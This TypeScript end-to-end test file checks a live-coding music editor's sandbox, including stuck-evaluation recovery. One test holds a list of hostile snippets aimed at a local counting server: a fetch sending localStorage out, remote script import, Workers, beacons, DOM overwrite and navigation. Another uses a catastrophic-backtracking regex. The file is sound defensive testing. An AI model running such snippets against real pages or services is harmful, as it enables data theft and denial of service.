/**
 * The sandbox, from the editor: played code that tries to reach the page, the network or storage
 * reaches nothing (a local server counts every request), and code stuck inside the pattern
 * library, where no loop guard reaches, is stopped while the last good pattern plays on, measured
 * at the master output.
 */
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeCode } from '../../src/editor/share.ts';
import { openApp, type AppSession } from './harness.ts';
import { editorLines, installProbe, read, typeCode, waitForReading, type Reading } from './probe.ts';

let session: AppSession;
let server: Server;
let host = '';
const requests: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('globalThis.pwned = true;');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  session = await openApp('sandbox');
});

afterAll(async () => {
  await session?.close();
  await new Promise<void>((resolve) => server?.close(() => resolve()));
});

async function open(url: string) {
  const { page } = session;
  await page.goto('about:blank');
  await page.goto(url);
  await page.waitForSelector('.cm-content');
  await installProbe(page);
}

const near = (hz: number) => (r: Reading) => r.peakDbfs > -40 && Math.abs(r.frequencyHz - hz) < 12;
const status = () => session.page.textContent('#status') as Promise<string>;

describe('the sandbox', () => {
  it('runs played code without the page: no storage, no DOM, no network, no messages of its own to the page', async () => {
    const { page } = session;
    await open(`${session.url}?test`);
    await page.evaluate('localStorage.clear()');
    await typeCode(page, 'note("c3")');
    await page.waitForTimeout(800);
    // Each attempt runs and fails on its own; the tune at the end plays, so the code did run.
    const attempts = [
      `fetch('http://${host}/fetch?' + encodeURIComponent(JSON.stringify(localStorage)))`,
      `fetch('http://${host}/fetch2')`,
      `self.fetch('http://${host}/self-fetch')`,
      `{ const x = new XMLHttpRequest(); x.open('GET', 'http://${host}/xhr'); x.send() }`,
      `new WebSocket('ws://${host}/ws')`,
      `new EventSource('http://${host}/es')`,
      `import('http://${host}/evil.js')`,
      `importScripts('http://${host}/classic.js')`,
      `new Worker('http://${host}/worker.js')`,
      `new Worker(URL.createObjectURL(new Blob(['fetch("http://${host}/nested")'])))`,
      `indexedDB.open('motif-steal')`,
      `caches.open('steal')`,
      `navigator.storage.getDirectory()`,
      `navigator.sendBeacon('http://${host}/beacon')`,
      `postMessage({ type: 'samples', id: 999, map: 'http://${host}/spoof.json' })`,
      `new BroadcastChannel('motif').postMessage('x')`,
      `document.body.innerHTML = 'pwned'`,
      `localStorage.setItem('motif.code', 'pwned')`,
      `window.location = 'http://${host}/navigate'`,
    ];
    const hostile = `const results = []\n${attempts.map((attempt) => `try { const r = ${attempt.startsWith('{') ? `(() => ${attempt})()` : attempt}; if (r && r.catch) r.catch(() => {}) } catch (e) { results.push(String(e)) }`).join('\n')}\nnote("a4").s("sine")`;
    await open(`${session.url}?test#code=${encodeCode(hostile)}`);
    await page.click('#play');
    const playing = await waitForReading(page, near(440), 5000);
    expect(playing.frequencyHz).toBeCloseTo(440, -1); // it ran to its last line
    await page.waitForTimeout(1500);
    expect(requests).toEqual([]);
    expect(await page.evaluate("localStorage.getItem('motif.code')")).toBe('note("c3")');
    expect(await page.isVisible('.cm-content')).toBe(true);
    expect(await page.evaluate('globalThis.pwned ?? false')).toBe(false);
    expect(page.url()).toContain(session.url);
    await page.click('#stop');
  });

  it('stops an evaluation stuck inside the library (a regular expression that never ends) and plays the last good pattern on', async () => {
    const { page } = session;
    await open(`${session.url}?test#code=${encodeCode('note("a4*4").s("sine")')}`);
    await page.click('#play');
    await waitForReading(page, near(440), 5000);
    await typeCode(page, "/(a+)+$/.test('a'.repeat(40) + 'b'); note(\"e5\").s(\"sine\")");
    const since = Date.now();
    await page.keyboard.press('Control+Enter');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('inside the pattern library'), undefined, { timeout: 8000 });
    const stopped = (Date.now() - since) / 1000;
    expect(await status()).toMatch(/ran longer than 2\.0 s inside the pattern library/);
    const back = await waitForReading(page, near(440), 4000);
    const resumed = (Date.now() - since) / 1000;
    console.log(`stuck evaluation: stopped after ${stopped.toFixed(2)} s, a4 heard again ${resumed.toFixed(2)} s after Ctrl+Enter`);
    expect(back.frequencyHz).toBeCloseTo(440, -1);
    expect(await editorLines(page)).toEqual(["/(a+)+$/.test('a'.repeat(40) + 'b'); note(\"e5\").s(\"sine\")"]); // the code is kept
    // The editor goes on working: the next evaluation plays.
    await typeCode(page, 'note("c5*4").s("sine")');
    await page.keyboard.press('Control+Enter');
    const next = await waitForReading(page, near(523.25), 5000);
    expect(next.frequencyHz).toBeCloseTo(523.25, -1);
    await page.click('#stop');
  });

  it('stops a playing pattern stuck inside the library and goes back to the version before it', async () => {
    const { page } = session;
    await open(`${session.url}?test#code=${encodeCode('note("a4*4").s("sine")')}`);
    await page.click('#play');
    await waitForReading(page, near(440), 5000);
    await typeCode(page, "note(\"e5*4\").s(\"sine\").fmap((v) => (/(a+)+$/.test('a'.repeat(40) + 'b'), v))");
    await page.keyboard.press('Control+Enter');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('stopped answering'), undefined, { timeout: 10000 });
    expect(await status()).toMatch(/playing code stopped answering for 2\.0 s .*the version before it plays on/);
    const back = await waitForReading(page, near(440), 4000);
    expect(back.frequencyHz).toBeCloseTo(440, -1);
    const later = await read(page);
    expect(later.peakDbfs).toBeGreaterThan(-40);
    await page.click('#stop');
  });

  it('ends "generating…" in an error naming the model when its server never answers, while the source plays on', async () => {
    const { page } = session;
    const dead = createTcpServer(() => undefined); // accepts the connection, never answers
    await new Promise<void>((resolve) => dead.listen(0, '127.0.0.1', resolve));
    const model = `http://127.0.0.1:${(dead.address() as AddressInfo).port}/model`;
    try {
      await open(`${session.url}?test#code=${encodeCode(`note("a4*4").s("sine").continue({ model: '${model}' })`)}`);
      await page.click('#play');
      await page.waitForFunction(() => document.querySelector('.motif-ai-status')?.textContent?.includes('generating'), undefined, { timeout: 5000 });
      expect((await waitForReading(page, near(440), 5000)).frequencyHz).toBeCloseTo(440, -1); // the source plays meanwhile
      const since = Date.now();
      await page.waitForFunction(() => document.querySelector('.motif-ai-status')?.textContent?.includes('no answer'), undefined, { timeout: 30000 });
      const badge = (await page.textContent('.motif-ai-status')) ?? '';
      console.log(`dead model server: "${badge}" after ${((Date.now() - since) / 1000).toFixed(1)} s more`);
      expect(badge).toContain(model);
      expect(badge).toMatch(/no answer within 20 s/);
      expect((await read(page)).peakDbfs).toBeGreaterThan(-40);
      await page.click('#stop');
    } finally {
      dead.close();
    }
  }, 60000);
});
